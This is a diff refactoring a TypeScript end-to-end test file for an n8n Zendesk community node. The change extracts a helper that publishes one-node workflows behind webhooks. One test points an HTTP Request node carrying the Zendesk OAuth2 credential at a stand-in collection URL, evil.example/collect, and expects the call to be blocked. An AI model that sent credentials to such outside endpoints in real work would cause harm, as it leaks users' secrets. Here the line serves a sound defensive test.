@@ -43,6 +43,39 @@ async function createCredential(name: string, more: Record<string, unknown> = {}
 	return { credential, data };
 }
 
+/** Publishes a workflow of one node behind a webhook; asking the webhook runs it and gives its first item. */
+async function publishBehindWebhook(path: string, node: Partial<WorkflowNode>): Promise<string> {
+	const { rest, n8n } = playground;
+	const workflow = await rest.createWorkflow({
+		name: `Webhook ${path}`,
+		nodes: [
+			{
+				id: 'hook',
+				name: 'Hook',
+				type: 'n8n-nodes-base.webhook',
+				typeVersion: 2.1,
+				position: [0, 0],
+				parameters: { path, responseMode: 'lastNode' },
+				webhookId: path,
+			},
+			{
+				id: 'node',
+				name: 'Node',
+				type: TYPE,
+				typeVersion: 1,
+				position: [220, 0],
+				parameters: {},
+				...node,
+			},
+		],
+		connections: { Hook: { main: [[{ node: 'Node', type: 'main', index: 0 }]] } },
+	});
+	await rest.publish(workflow);
+	const address = `${n8n.url}/webhook/${path}`;
+	await n8n.untilKnown(address);
+	return address;
+}
+
 it('n8n has loaded the pack as a community package', async () => {
 	const types = (await playground.rest.nodeTypes()).map(({ name }) => name);
 	expect(types).toContain(TYPE);
@@ -153,40 +186,20 @@ describe('the credential’s Test button', () => {
 });
 
 it('the credential goes nowhere but to Zendesk, not even from an HTTP Request node', async () => {
-	const { rest, n8n, proxy } = playground;
+	const { proxy } = playground;
 	const { credential } = await createCredential('Zendesk for requests');
-	const hook = (path: string, url: string) => ({
-		name: `Request ${path}`,
-		nodes: [
-			{
-				id: 'hook',
-				name: 'Hook',
-				type: 'n8n-nodes-base.webhook',
-				typeVersion: 2.1,
-				position: [0, 0],
-				parameters: { path, responseMode: 'lastNode' },
-				webhookId: path,
-			},
-			{
-				id: 'request',
-				name: 'Request',
-				type: 'n8n-nodes-base.httpRequest',
-				typeVersion: 4.3,
-				position: [220, 0],
-				parameters: {
-					url,
-					authentication: 'predefinedCredentialType',
-					nodeCredentialType: 'zendeskUsersOAuth2Api',
-				},
-				credentials: { zendeskUsersOAuth2Api: credential },
-			},
-		],
-		connections: { Hook: { main: [[{ node: 'Request', type: 'main', index: 0 }]] } },
-	});
 	const ask = async (path: string, url: string) => {
-		await rest.publish(await rest.createWorkflow(hook(path, url)));
-		await n8n.untilKnown(`${n8n.url}/webhook/${path}`);
-		return (await fetch(`${n8n.url}/webhook/${path}`)).status;
+		const address = await publishBehindWebhook(path, {
+			type: 'n8n-nodes-base.httpRequest',
+			typeVersion: 4.3,
+			parameters: {
+				url,
+				authentication: 'predefinedCredentialType',
+				nodeCredentialType: 'zendeskUsersOAuth2Api',
+			},
+			credentials: { zendeskUsersOAuth2Api: credential },
+		});
+		return (await fetch(address)).status;
 	};
 	expect(await ask('to-zendesk', 'https://acme.zendesk.com/api/v2/users/me')).toBe(200);
 	expect(await ask('to-evil', 'https://evil.example/collect')).toBe(500);
@@ -224,37 +237,14 @@ describe('signing in through the browser', () => {
 			.waitFor();
 		await window.close();
 
-		const workflow = await rest.createWorkflow({
-			name: `Who am I by ${grantType}`,
-			nodes: [
-				{
-					id: 'hook',
-					name: 'Hook',
-					type: 'n8n-nodes-base.webhook',
-					typeVersion: 2.1,
-					position: [0, 0],
-					parameters: { path: `who-${grantType}`, responseMode: 'lastNode' },
-					webhookId: `who-${grantType}`,
-				},
-				{
-					id: 'get',
-					name: 'Get',
-					type: TYPE,
-					typeVersion: 1,
-					position: [220, 0],
-					parameters: {
-						resource: 'user',
-						operation: 'get',
-						user: { __rl: true, mode: 'id', value: String(sim.credentials.adminId) },
-					},
-					credentials: { zendeskUsersOAuth2Api: credential },
-				},
-			],
-			connections: { Hook: { main: [[{ node: 'Get', type: 'main', index: 0 }]] } },
+		const address = await publishBehindWebhook(`who-${grantType}`, {
+			parameters: {
+				resource: 'user',
+				operation: 'get',
+				user: { __rl: true, mode: 'id', value: String(sim.credentials.adminId) },
+			},
+			credentials: { zendeskUsersOAuth2Api: credential },
 		});
-		await rest.publish(workflow);
-		const address = `${n8n.url}/webhook/who-${grantType}`;
-		await n8n.untilKnown(address);
 		const answer = await (await fetch(address)).json();
 		expect(answer).toMatchObject({ id: sim.credentials.adminId });
 	});
